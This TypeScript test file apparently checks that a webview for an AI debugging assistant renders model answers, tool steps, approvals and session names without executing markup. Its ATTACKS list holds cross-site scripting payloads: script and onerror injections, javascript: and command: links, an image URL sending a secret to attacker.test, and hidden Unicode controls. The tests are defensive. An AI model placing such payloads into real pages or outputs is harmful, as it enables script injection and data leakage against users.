/** What a model, a program or a file may say does nothing but stand there. */

import assert from "node:assert/strict";

import { viewTest, type View } from "./page";
import { APPROVAL, ended, state, step, talk, turn } from "./samples";

const ATTACKS = [
  "<script>window.hurt = 1</script>",
  "<img src=x onerror=\"window.hurt = 1\">",
  "<svg onload=\"window.hurt = 1\"></svg>",
  "<iframe src=\"https://attacker.test/\"></iframe>",
  "<a href=\"javascript:window.hurt=1\">a</a>",
  "<style>body { display: none }</style>",
  "[b](javascript:window.hurt=1)",
  "[c](command:workbench.action.terminal.new)",
  "[d](vscode://attacker/x)",
  "[e](data:text/html,<script>window.hurt=1</script>)",
  "[f](//attacker.test/x)",
  "![g](https://attacker.test/pixel.png?secret=1)",
  "![h](x \"onerror=window.hurt=1\")",
  "[i][1]\n\n[1]: javascript:window.hurt=1",
  "<command:workbench.action.terminal.new>",
  "`<img src=x onerror=window.hurt=1>`",
  "```html\n<script>window.hurt = 1</script>\n```",
  "```python\"><script>window.hurt = 1</script>\nx = '<img src=x onerror=window.hurt=1>'\n```",
  "&#8238;turned&#x2066; &ZeroWidthSpace;hidden&shy;",
  "```diff\n+<img src=x onerror=window.hurt=1>\n```",
  "| <img src=x onerror=window.hurt=1> |\n|---|\n| <script>window.hurt=1</script> |",
].join("\n\n");

async function assertUnhurt(view: View): Promise<void> {
  const found = await view.page.evaluate(() => ({
    hurt: "hurt" in window,
    elements: document.querySelectorAll("#app :is(script, img, iframe, style, object, embed, form, base, link, meta)").length,
    addresses: [...document.querySelectorAll("#app [href]")].map((each) => each.getAttribute("href") ?? "").filter((each) => !/^https?:/.test(each)),
    handlers: [...document.querySelectorAll("#app *")].filter((each) => [...each.attributes].some((one) => one.name.startsWith("on"))).length,
    shown: getComputedStyle(document.body).display,
    hidden: /[\u202A-\u202E\u2066-\u2069\u200B\u00AD]/.test(document.querySelector("#app")?.textContent ?? ""),
  }));
  assert.deepEqual(found, { hurt: false, elements: 0, addresses: [], handlers: 0, shown: "block", hidden: false });
}

viewTest("markup and links of an answer do nothing, streamed or whole", async (view) => {
  await view.post({ type: "state", state: talk(turn()) });
  for (const piece of ATTACKS.match(/[\s\S]{1,7}/g) ?? []) await view.post({ type: "part", turnId: "t1", part: { kind: "answer", text: piece } });
  await view.page.getByText("onerror=window.hurt").first().waitFor();
  await assertUnhurt(view);
  await view.post({ type: "ended", turnId: "t1", ended: ended({ answer: `${ATTACKS}\n\nend` }) });
  await assertUnhurt(view);
  // What was to be an image has become a link with its host in sight; nobody has followed it.
  const addresses = await view.find(".markdown a[href]").evaluateAll((all) => all.map((each) => each.getAttribute("href")));
  assert.deepEqual(addresses, ["https://attacker.test/pixel.png?secret=1"]);
});

viewTest("markup in questions, steps, consent, findings and names does nothing", async (view) => {
  const evil = "<img src=x onerror=\"window.hurt = 1\">[x](command:x)`<script>window.hurt=1</script>`";
  await view.post({
    type: "state",
    state: {
      ...talk(turn({
        question: evil,
        spot: evil,
        parts: [
          { kind: "status", text: evil },
          { kind: "step", step: step({ call: evil, result: evil, shown: evil, name: evil }) },
          { kind: "approval", approval: { ...APPROVAL, action: evil, reason: evil, kind: evil } },
        ],
        ended: ended({
          answer: evil,
          error: evil,
          reason: "failed",
          evidence: [{ expression: evil, value: evil, file: evil, line: 1, frameId: 1, threadId: 1, epoch: 1, confirmed: true }],
          suspects: [{ file: evil, line: 1, score: Number.POSITIVE_INFINITY, reason: evil }],
          fixes: [{ file: evil, diff: evil, verified: true, check: evil, result: evil }],
          masked: [{ placeholder: evil, rule: evil, times: 1 }],
        }),
      })),
      sessions: [{ id: "s1", name: evil, stop: { reason: evil, file: evil, line: 1, frame: evil } }],
      history: [{ id: "h", title: evil }],
      answerer: { kind: "endpoint", name: evil, leaves: evil },
    },
  });
  await view.find(".step summary").first().click();
  await assertUnhurt(view);
});

viewTest("a link to the web shows its address, and is the only kind with one", async (view) => {
  await view.post({ type: "state", state: talk(turn({ parts: [{ kind: "answer", text: "[docs](https://docs.python.org/3/)" }] })) });
  const link = view.find("a.web");
  assert.equal(await link.getAttribute("href"), "https://docs.python.org/3/");
  assert.equal(await link.getAttribute("title"), "https://docs.python.org/3/");
});

viewTest("a link whose words name another place than its address shows both", async (view) => {
  await view.post({ type: "state", state: talk(turn({ parts: [{ kind: "answer", text: "[docs.python.org](https://attacker.test/?q=1)" }] })) });
  await view.page.getByText("attacker.test").waitFor();
});

viewTest("the policy blocks inline scripts, styles of others and the network", async (view) => {
  await view.post({ type: "state", state: state() });
  const fetched = await view.page.evaluate(() => {
    const script = document.createElement("script");
    script.textContent = "window.hurt = 1";
    document.body.appendChild(script);
    return fetch("https://attacker.test/").then(() => true, () => false);
  });
  assert.equal(fetched, false);
  await view.page.waitForFunction(() => (window as unknown as { recorder: { violations: string[] } }).recorder.violations.length === 2);
  const violated = await view.page.evaluate(() => (window as unknown as { recorder: { violations: string[] } }).recorder.violations.splice(0));
  assert.deepEqual(violated.map((each) => each.split(":", 1)[0]).sort(), ["connect-src", "script-src-elem"]);
  await assertUnhurt(view);
  view.forgive();
});
